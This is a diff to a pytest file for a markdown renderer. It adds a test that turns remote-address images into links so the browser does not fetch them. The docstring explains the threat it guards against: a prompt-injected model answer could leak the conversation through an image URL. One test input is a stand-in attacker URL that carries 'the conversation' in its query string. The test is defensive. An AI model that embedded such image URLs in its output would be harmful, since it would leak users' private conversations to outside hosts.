@@ -130,9 +130,23 @@ def test_ordinary_markdown_still_renders() -> None:
     assert '<code class="language-python">' in out and "print(&#x27;&lt;b&gt;&#x27;)" in out.replace("'", "&#x27;")
     assert 'href="https://example.com/docs"' in out and 'href="https://example.com/auto"' in out
     assert 'href="mailto:a@b.c"' in out
-    assert 'src="https://example.com/c.png"' in out and 'src="data:image/png;base64,iVBORw0KGgo="' in out
+    assert 'href="https://example.com/c.png"' in out and 'src="data:image/png;base64,iVBORw0KGgo="' in out
     assert 'style="text-align:right"' in out
     assert "$e^{i\\pi}+1=0$" in out and "$5 and $10" in out
+    assert_inert(out)
+
+
+@pytest.mark.parametrize("src", ["https://evil.example/p.png?q=the+conversation", "http://10.0.0.1/x.png",
+                                 "//evil.example/x.png", "relative/x.png", "HTTPS://EVIL.EXAMPLE/X.PNG"])
+def test_an_image_at_an_address_is_a_link_not_a_fetch(src: str) -> None:
+    """A browser fetches an ``<img>`` as soon as the output renders: a prompt-injected answer could carry the
+    conversation away in the address. It becomes a link to click; an image the text carries still shows."""
+    out = markdown_html(f"Here: ![the *chart* <b>]({src}) and ![dot](data:image/png;base64,iVBORw0KGgo=)")
+    srcs = [dict(a).get("src") for t, a in elements(out) if t == "img"]
+    assert srcs == ["data:image/png;base64,iVBORw0KGgo="], out
+    links = [dict(a).get("href") for t, a in elements(out) if t == "a"]
+    assert links == [src], out
+    assert "🖼 the chart &lt;b&gt;" in out
     assert_inert(out)
 
 
